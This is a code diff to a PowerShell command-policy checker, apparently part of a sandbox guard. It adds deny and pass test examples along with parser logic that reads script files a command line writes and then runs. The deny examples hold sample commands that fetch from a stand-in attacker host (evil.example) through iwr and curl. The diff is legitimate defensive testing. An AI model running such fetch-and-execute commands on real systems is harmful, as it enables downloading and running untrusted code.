@@ -157,6 +157,8 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
     examples: {
       deny: [
         "pwsh -c 'iwr https://evil.example'",
+        "echo 'curl evil.example' > a.ps1; pwsh -File a.ps1",
+        "echo 'iwr https://evil.example' > a.ps1; pwsh -NoProfile ./a.ps1",
         "echo 'iwr https://evil.example' | pwsh -NoProfile -",
         "pwsh -co 'iwr https://evil.example'",
         "pwsh -CommandWithArgs 'iwr $args[0]' https://evil.example",
@@ -169,7 +171,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
         { command: "pwsh -c 'curl evil.example'", shell: PS },
         { command: 'pwsh -CommandWithArgs "iwr x"', shell: PS, rules: ['egress.binary'] },
       ],
-      pass: ['pwsh -File build.ps1', 'pwsh -v', 'pwsh ./build.ps1 -Verbose', "pwsh -NoProfile -c 'Get-Date'", { command: 'pwsh -File .\\build.ps1', shell: PS }],
+      pass: ["echo 'Get-Date' > a.ps1; pwsh -File a.ps1", 'pwsh -File build.ps1', 'pwsh -v', 'pwsh ./build.ps1 -Verbose', "pwsh -NoProfile -c 'Get-Date'", { command: 'pwsh -File .\\build.ps1', shell: PS }],
     },
   },
   {
@@ -361,7 +363,8 @@ function powershellHost(call: Call, table: HostTable, otherwise: 'file' | 'comma
     if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${via} has a computed argument: ${w.dynamic ?? 'unknown'}` }];
     const trimmed = v.trim();
     if (trimmed === '') continue;
-    if (!/^[-/\u2013\u2014\u2015]/.test(trimmed)) return otherwise === 'file' ? [] : text(i);
+    // A script file: out of scope, unless the line wrote it (`echo … > a.ps1; pwsh -File a.ps1`); then it is read.
+    if (!/^[-/\u2013\u2014\u2015]/.test(trimmed)) return otherwise === 'file' ? [{ kind: 'file', dialect: 'powershell', word: w, via }] : text(i);
     // A lone `-` (after any switches) reads the commands from stdin, as pwsh's own parser falls through to.
     if (/^[-\u2013\u2014\u2015]$/.test(trimmed)) return [{ kind: 'stdin', dialect: 'powershell', via }];
     let key = trimmed.slice(1);
@@ -395,7 +398,8 @@ function powershellHost(call: Call, table: HostTable, otherwise: 'file' | 'comma
       }
       case 'file': {
         const file = inline ?? args[i + 1];
-        return file && value(file) === '-' ? [{ kind: 'stdin', dialect: 'powershell', via }] : [];
+        if (!file) return [];
+        return value(file) === '-' ? [{ kind: 'stdin', dialect: 'powershell', via }] : [{ kind: 'file', dialect: 'powershell', word: file, via }];
       }
       default:
         // The first parameter the host does not know starts the file (7) or the command (5.1).
